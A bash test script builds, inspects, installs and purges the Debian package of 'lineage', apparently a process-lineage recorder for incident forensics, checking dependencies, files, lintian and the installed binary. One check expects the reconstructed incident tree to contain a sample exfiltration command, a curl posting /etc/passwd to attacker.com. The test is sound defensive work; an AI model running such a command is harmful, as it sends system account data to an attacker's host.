#!/bin/bash
# The Debian package, built and installed for real:
#   cpack -G DEB in the build directory, then its control file, its file list
#   and lintian; then dpkg --root installs it into a fresh, empty root, the
#   installed lineage runs (--version, reconstruct, verify), and remove and
#   purge leave the journal where it is.
#
# Why this root, and not a chroot: a root with its own libc and
# dependencies would take debootstrap, a Debian mirror and minutes. Here the
# root is fresh and empty (a dpkg database and the base system's passwd and
# group files), dpkg installs the real package into it and runs its real
# maintainer scripts there, without a chroot (--force-script-chrootless:
# they act on $DPKG_ROOT), and --force-depends stands in for the libraries
# the root does not have. The installed binary then runs on this machine's
# libraries: the Debian 12 ones its Depends line names, which is checked
# against what the binary links.
#
# Usage: test_package.sh BUILD_DIR SOURCE_DIR
# Needs root (dpkg installs files owned by root and the scripts chown); exits
# 77 (skipped) without it, unless LINEAGE_REQUIRE_BPF=1.
set -euo pipefail

BUILD=$(realpath "$1")
SRC=$(realpath "$2")

fail() { echo "FAIL: $*" >&2; exit 1; }
skip() {
    if [ "${LINEAGE_REQUIRE_BPF:-0}" = 1 ]; then fail "$* (LINEAGE_REQUIRE_BPF=1: not skipping)"; fi
    echo "SKIP: $*"
    exit 77
}
check() { # check DESCRIPTION COMMAND...: runs COMMAND, fails the test naming DESCRIPTION
    local what=$1; shift
    "$@" || fail "$what"
    echo "ok: $what"
}

[ "$(id -u)" = 0 ] || skip "not root: dpkg installs root-owned files into the test root"
for tool in cpack dpkg dpkg-deb lintian objdump /usr/bin/python3; do
    command -v "$tool" >/dev/null || fail "$tool is missing (scripts/setup.sh installs it)"
done

WORK=$(mktemp -d /tmp/lineage-package-test.XXXXXX)
trap 'rm -rf "$WORK"' EXIT

# ------------------------------------------------------------------ build

VERSION=$("$BUILD/lineage" --version | sed -n 's/^lineage //p')
[ -n "$VERSION" ] || fail "cannot read the version from $BUILD/lineage --version"
ARCH=$(dpkg --print-architecture)
(cd "$BUILD" && cpack -G DEB -B "$WORK/out") >"$WORK/cpack.log" 2>&1 || { cat "$WORK/cpack.log" >&2; fail "cpack -G DEB"; }
DEB=$WORK/out/lineage_${VERSION}_${ARCH}.deb
check "cpack built $(basename "$DEB")" test -f "$DEB"

# ------------------------------------------------------------------ control

field() { dpkg-deb -f "$DEB" "$1"; }
check "Package: lineage" test "$(field Package)" = lineage
check "Version: $VERSION" test "$(field Version)" = "$VERSION"
check "Architecture: $ARCH" test "$(field Architecture)" = "$ARCH"
DEPENDS=$(field Depends)
echo "Depends: $DEPENDS"
# Every shared library the binary links is in Depends, by the package that
# ships it on this machine: what dpkg-shlibdeps found, not a list by hand.
dpkg-deb -x "$DEB" "$WORK/x"
needed=$(objdump -p "$WORK/x/usr/bin/lineage" | awk '$1 == "NEEDED" { print $2 }')
[ -n "$needed" ] || fail "objdump found no NEEDED libraries in the packaged binary"
# Read whole outputs before picking a line: under pipefail, a reader that
# stops early ("awk ... exit", "head -1") gives the writer SIGPIPE, and the
# assignment fails silently whenever the writer had not yet finished.
ldcache=$(ldconfig -p)
for soname in $needed; do
    path=$(awk -v s="$soname" '$1 == s && /x86-64|x32|64/ && !found { print $NF; found = 1 }' <<<"$ldcache")
    [ -n "$path" ] || path=$(awk -v s="$soname" '$1 == s && !found { print $NF; found = 1 }' <<<"$ldcache")
    [ -n "$path" ] || fail "no $soname on this machine"
    pkg=$(dpkg -S "$(realpath "$path")" 2>/dev/null | sed -n '1s/:.*//p') || true
    [ -n "$pkg" ] || pkg=$(dpkg -S "$path" 2>/dev/null | sed -n '1s/:.*//p') || true
    [ -n "$pkg" ] || fail "dpkg -S finds no package that ships $path ($soname)"
    echo ", $DEPENDS," | grep -q ", $pkg[ ,(]" || fail "$soname is in package $pkg, which Depends does not name"
    echo "ok: $soname -> $pkg in Depends"
done
# The one dependency by hand: postinst runs useradd.
echo ", $DEPENDS," | grep -q ", passwd," || fail "Depends lacks passwd (postinst runs useradd)"
check "conffiles: /etc/default/lineage" test "$(dpkg-deb --ctrl-tarfile "$DEB" | tar -xO ./conffiles)" = /etc/default/lineage

# ------------------------------------------------------------------ files

# Exactly these: no test, benchmark or fuzzer, nothing unexpected.
dpkg-deb -c "$DEB" | awk '{ print $1, $2, $6 }' | sed 's| \./| /|; s|/$||' | sort >"$WORK/files.txt"
cat >"$WORK/expected.txt" <<'EOF'
-rw-r--r-- root/root /etc/default/lineage
-rw-r--r-- root/root /lib/systemd/system/lineage-health.service
-rw-r--r-- root/root /lib/systemd/system/lineage-health.timer
-rw-r--r-- root/root /lib/systemd/system/lineage.service
-rw-r--r-- root/root /usr/share/doc/lineage/changelog.gz
-rw-r--r-- root/root /usr/share/doc/lineage/copyright
-rw-r--r-- root/root /usr/share/lineage/clickhouse-rows.jq
-rw-r--r-- root/root /usr/share/lineage/clickhouse.sql
-rw-r--r-- root/root /usr/share/lineage/export.schema.json
-rw-r--r-- root/root /usr/share/lineage/info.schema.json
-rw-r--r-- root/root /usr/share/lineage/pods.schema.json
-rw-r--r-- root/root /usr/share/lineage/reconstruct.schema.json
-rw-r--r-- root/root /usr/share/lineage/status.schema.json
-rw-r--r-- root/root /usr/share/lineage/timeline.schema.json
-rw-r--r-- root/root /usr/share/lineage/verify.schema.json
-rw-r--r-- root/root /usr/share/lintian/overrides/lineage
-rw-r--r-- root/root /usr/share/man/man1/lineage-export.1.gz
-rw-r--r-- root/root /usr/share/man/man1/lineage-import.1.gz
-rw-r--r-- root/root /usr/share/man/man1/lineage-info.1.gz
-rw-r--r-- root/root /usr/share/man/man1/lineage-pods.1.gz
-rw-r--r-- root/root /usr/share/man/man1/lineage-reconstruct.1.gz
-rw-r--r-- root/root /usr/share/man/man1/lineage-record.1.gz
-rw-r--r-- root/root /usr/share/man/man1/lineage-status.1.gz
-rw-r--r-- root/root /usr/share/man/man1/lineage-timeline.1.gz
-rw-r--r-- root/root /usr/share/man/man1/lineage-verify.1.gz
-rw-r--r-- root/root /usr/share/man/man1/lineage.1.gz
-rwxr-xr-x root/root /usr/bin/lineage
-rwxr-xr-x root/root /usr/libexec/lineage/lineage-health
EOF
grep -v '^d' "$WORK/files.txt" >"$WORK/regular.txt"
sort -o "$WORK/expected.txt" "$WORK/expected.txt"
diff -u "$WORK/expected.txt" "$WORK/regular.txt" || fail "the package's files differ from the list above (- expected, + packaged)"
echo "ok: the package holds exactly the binary, man pages, unit, options file, schemas and docs"
check "the packaged binary is stripped" sh -c "! objdump -h '$WORK/x/usr/bin/lineage' | grep -q '\.debug_info'"
check "the packaged schemas are the source's" cmp "$WORK/x/usr/share/lineage/reconstruct.schema.json" \
    "$SRC/schema/reconstruct.schema.json"
for f in lineage.service lineage-health.service lineage-health.timer; do
    check "the packaged $f is deploy/systemd/$f" cmp "$WORK/x/lib/systemd/system/$f" "$SRC/deploy/systemd/$f"
done
check "the packaged health check is deploy/systemd/lineage-health" \
    cmp "$WORK/x/usr/libexec/lineage/lineage-health" "$SRC/deploy/systemd/lineage-health"

# ------------------------------------------------------------------ lintian

# No error, and no warning that deploy/debian/lintian-overrides does not
# name with its reason. Info tags are listed but allowed.
lintian --info "$DEB" >"$WORK/lintian.txt" 2>&1 || true
grep -E '^[EWIO]:' "$WORK/lintian.txt" || true
if grep -qE '^[EW]:' "$WORK/lintian.txt"; then
    cat "$WORK/lintian.txt" >&2
    fail "lintian reports errors or warnings without an override (above)"
fi
echo "ok: lintian: no errors, no warnings without an override"

# ------------------------------------------------------------------ install into a fresh root

ROOT=$WORK/root
mkdir -p "$ROOT/var/lib/dpkg/info" "$ROOT/var/lib/dpkg/updates" "$ROOT/etc"
touch "$ROOT/var/lib/dpkg/status" "$ROOT/var/lib/dpkg/available"
# The base system's accounts, as base-passwd leaves them.
printf 'root:x:0:0:root:/root:/bin/bash\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n' \
    >"$ROOT/etc/passwd"
printf 'root:x:0:\nnogroup:x:65534:\n' >"$ROOT/etc/group"
host_passwd=$(sha256sum /etc/passwd /etc/group)

rdpkg() { dpkg --root="$ROOT" --force-script-chrootless --log=/dev/null "$@"; }
rdpkg --force-depends -i "$DEB" >"$WORK/install.log" 2>&1 || { cat "$WORK/install.log" >&2; fail "dpkg -i"; }
check "dpkg -i: installed" sh -c "dpkg --root='$ROOT' -s lineage | grep -qx 'Status: install ok installed'"
check "this machine's passwd and group are untouched" test "$(sha256sum /etc/passwd /etc/group)" = "$host_passwd"

user=$(awk -F: '$1 == "lineage"' "$ROOT/etc/passwd")
echo "lineage user: $user"
[ -n "$user" ] || fail "postinst created no lineage user in the root's /etc/passwd"
uid=$(echo "$user" | cut -d: -f3)
gid=$(echo "$user" | cut -d: -f4)
check "the lineage user is a system user with no login shell" \
    sh -c "[ '$uid' -gt 0 ] && [ '$uid' -lt 1000 ] && [ '$(echo "$user" | cut -d: -f7)' = /usr/sbin/nologin ]"
check "its group is lineage" sh -c "awk -F: '\$1 == \"lineage\" { print \$3 }' '$ROOT/etc/group' | grep -qx '$gid'"
check "/var/lib/lineage: mode 0700, owned by lineage" \
    test "$(stat -c '%a %u %g' "$ROOT/var/lib/lineage")" = "700 $uid $gid"

LINEAGE=$ROOT/usr/bin/lineage
check "the installed lineage --version says $VERSION" test "$("$LINEAGE" --version)" = "lineage $VERSION"
JOURNAL=$ROOT/var/lib/lineage/journal.db
cp "$SRC/testdata/journals/v1-incident.journal" "$JOURNAL"
"$LINEAGE" reconstruct --journal "$JOURNAL" >"$WORK/tree.txt" 2>"$WORK/tree.err" \
    || { cat "$WORK/tree.err" >&2; fail "the installed lineage reconstruct"; }
check "reconstruct: the incident's tree" grep -q 'curl http://attacker.com/exfil -d @/etc/passwd' "$WORK/tree.txt"
check "reconstruct: the pod" grep -q '\[pod production/my-app-6d4f9-xk2p1\]' "$WORK/tree.txt"
"$BUILD/lineage" reconstruct --journal "$JOURNAL" >"$WORK/tree-build.txt" 2>/dev/null
check "reconstruct: the installed binary says what the built one says" cmp "$WORK/tree.txt" "$WORK/tree-build.txt"
"$LINEAGE" reconstruct --journal "$JOURNAL" --format json >"$WORK/tree.json" 2>/dev/null
check "reconstruct --format json: valid against the installed schema" \
    /usr/bin/python3 -m jsonschema -i "$WORK/tree.json" "$ROOT/usr/share/lineage/reconstruct.schema.json"
check "the installed lineage verify: whole" sh -c "'$LINEAGE' verify --journal '$JOURNAL' | grep -qx 'result: whole'"
# Nobody records the copied journal: status says so (3), in the installed schema.
set +e
"$LINEAGE" status --journal "$JOURNAL" --format json >"$WORK/status.json" 2>"$WORK/status.err"
status_rc=$?
set -e
check "the installed lineage status: not recording (exit 3; $(cat "$WORK/status.err"))" test "$status_rc" = 3
check "status --format json: valid against the installed schema" \
    /usr/bin/python3 -m jsonschema -i "$WORK/status.json" "$ROOT/usr/share/lineage/status.schema.json"
check "the installed man pages are the source's" sh -c "gzip -dc '$ROOT/usr/share/man/man1/lineage-record.1.gz' | cmp - '$SRC/man/lineage-record.1'"

# ------------------------------------------------------------------ remove, purge

rdpkg -r lineage >"$WORK/remove.log" 2>&1 || { cat "$WORK/remove.log" >&2; fail "dpkg -r"; }
check "remove: the binary is gone" test ! -e "$LINEAGE"
check "remove: the journal stays (evidence)" cmp "$JOURNAL" "$SRC/testdata/journals/v1-incident.journal"
check "remove: the options file stays (a conffile)" test -f "$ROOT/etc/default/lineage"
rdpkg -P lineage >"$WORK/purge.log" 2>&1 || { cat "$WORK/purge.log" >&2; fail "dpkg -P"; }
cat "$WORK/purge.log"
check "purge: says the journal is kept" grep -q 'journal in /var/lib/lineage is kept' "$WORK/purge.log"
check "purge: the journal stays" cmp "$JOURNAL" "$SRC/testdata/journals/v1-incident.journal"
check "purge: the options file is gone" test ! -e "$ROOT/etc/default/lineage"
check "purge: the package is gone" sh -c "! dpkg --root='$ROOT' -s lineage >/dev/null 2>&1"

# Installed again over the kept journal: the user is reused, the directory
# tightened again; then with no journal, purge removes the empty directory.
chmod 0755 "$ROOT/var/lib/lineage"
rdpkg --force-depends -i "$DEB" >"$WORK/install2.log" 2>&1 || { cat "$WORK/install2.log" >&2; fail "dpkg -i again"; }
check "reinstall: one lineage user" test "$(grep -c '^lineage:' "$ROOT/etc/passwd")" = 1
check "reinstall: /var/lib/lineage is mode 0700 again" test "$(stat -c '%a' "$ROOT/var/lib/lineage")" = 700
check "reinstall: the journal is untouched" cmp "$JOURNAL" "$SRC/testdata/journals/v1-incident.journal"
rm "$JOURNAL"
rdpkg -P lineage >"$WORK/purge2.log" 2>&1 || { cat "$WORK/purge2.log" >&2; fail "dpkg -P again"; }
check "purge with no journal: nothing said, the empty directory removed" \
    sh -c "! grep -q 'is kept' '$WORK/purge2.log' && test ! -e '$ROOT/var/lib/lineage'"
echo "all package checks passed"
